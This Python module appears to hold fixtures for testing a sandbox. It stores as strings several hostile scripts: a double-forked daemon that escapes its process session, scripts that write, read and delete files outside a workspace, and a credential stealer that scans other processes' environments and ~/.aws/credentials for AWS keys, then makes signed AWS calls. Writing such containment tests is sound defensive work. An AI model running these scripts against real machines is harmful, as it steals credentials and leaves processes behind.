"""The code of hostile scripts. Each is bounded, so that it cannot harm the machine of a test."""

LEAVE_A_CHILD = """
import os, socket, sys, time
server = socket.create_server(("127.0.0.1", 0))
port = server.getsockname()[1]
if os.fork() == 0:
    os.setsid()
    if os.fork() == 0:
        os.closerange(0, 3)
        while True:
            server.accept()[0].close()
    os._exit(0)
os.wait()
server.close()
socket.create_connection(("127.0.0.1", port), 5).close()
print(port, flush=True)
"""
"""A child outside of the group and the session that answers on a port. The script saw it answer."""

CALL_A_PORT = """
import socket, sys
try:
    socket.create_connection(("127.0.0.1", int(sys.argv[1])), 5).close()
    print("answered")
except ConnectionRefusedError:
    print("refused")
"""

SHOW_MY_FILES = """
import os, sys, tempfile, time
from pathlib import Path
for folder in (Path.cwd(), Path.home(), Path(tempfile.gettempdir())):
    file = folder / "mine"
    file.write_text(sys.argv[1])
    print(file, flush=True)
print("end", flush=True)
time.sleep(600)
"""

TAKE_FILES = """
import json, os, sys
from pathlib import Path
reached = []
for name in sys.argv[1:]:
    for what, attempt in {
        "read": lambda: Path(name).read_text(),
        "listed": lambda: os.listdir(Path(name).parent),
        "written": lambda: Path(name).write_text("taken"),
        "removed": lambda: Path(name).unlink(),
    }.items():
        try:
            attempt()
            reached.append([name, what])
        except OSError:
            pass
print(json.dumps(reached))
"""

STEAL_CREDENTIALS = r"""
import hashlib, hmac, json, os, re, ssl, sys, urllib.error, urllib.request
from datetime import datetime, timezone

NAMES = ("AWS_ACCESS_KEY_ID", "AWS_SECRET_ACCESS_KEY", "AWS_SESSION_TOKEN")
PATTERN = re.compile("({})=([^\\0\\n]+)".format("|".join(NAMES)).encode())
CALLS = {
    "dynamodb": "DynamoDB_20120810.ListTables",
    "ssm": "AmazonSSM.DescribeParameters",
    "sqs": "AmazonSQS.ListQueues",
    "s3": "",
}
REGION, ENDPOINT = sys.argv[1:]
own = {name: os.environ[name] for name in NAMES if name in os.environ}


def found():
    files = [f"/proc/{pid}/{name}" for pid in os.listdir("/proc") for name in ("environ", "cmdline")
             if pid.isdigit() and int(pid) != os.getpid()]
    files += [os.path.expanduser(f"{home}/.aws/credentials") for home in ("~", "~root")]
    for file in files:
        try:
            with open(file, "rb") as content:
                data = content.read(1_000_000)
        except OSError:
            continue
        for name, value in PATTERN.findall(data):
            if value.decode() not in own.values():  # those that this script was given
                yield [file, name.decode()]


def signed(service, keys):
    target = CALLS[service]
    address = ENDPOINT or f"https://{service}.{REGION}.amazonaws.com"
    method, body = ("POST", b"{}") if target else ("GET", b"")
    stamp = datetime.now(timezone.utc).strftime("%Y%m%dT%H%M%SZ")
    digest = hashlib.sha256(body).hexdigest()
    headers = {
        "host": address.partition("://")[2],
        "x-amz-content-sha256": digest,
        "x-amz-date": stamp,
        "x-amz-security-token": keys["AWS_SESSION_TOKEN"],
    }
    if target:
        headers |= {"content-type": "application/x-amz-json-1.0", "x-amz-target": target}
    names = ";".join(sorted(headers))
    lines = "".join(f"{name}:{headers[name]}\n" for name in sorted(headers))
    scope = f"{stamp[:8]}/{REGION}/{service}/aws4_request"
    request = hashlib.sha256(f"{method}\n/\n\n{lines}\n{names}\n{digest}".encode()).hexdigest()
    key = ("AWS4" + keys["AWS_SECRET_ACCESS_KEY"]).encode()
    text = f"AWS4-HMAC-SHA256\n{stamp}\n{scope}\n{request}"
    for part in (*scope.split("/"), text):
        key = hmac.new(key, part.encode(), "sha256").digest()
    headers["authorization"] = (
        f"AWS4-HMAC-SHA256 Credential={keys['AWS_ACCESS_KEY_ID']}/{scope}, "
        f"SignedHeaders={names}, Signature={key.hex()}"
    )
    return urllib.request.Request(address + "/", body or None, headers, method=method)


def call(service):
    context = ssl._create_unverified_context()  # an emulator has a certificate of its own
    try:
        with urllib.request.urlopen(signed(service, own), timeout=10, context=context) as answer:
            return f"{answer.status} {answer.read(300).decode()}"
    except urllib.error.HTTPError as error:
        return f"{error.code} {error.read(500).decode()}"


calls = {service: call(service) for service in CALLS} if own else {}
print(json.dumps({"found": list(found()), "calls": calls}))
"""
"""Looks for credentials everywhere, and makes calls with those in its own environment."""
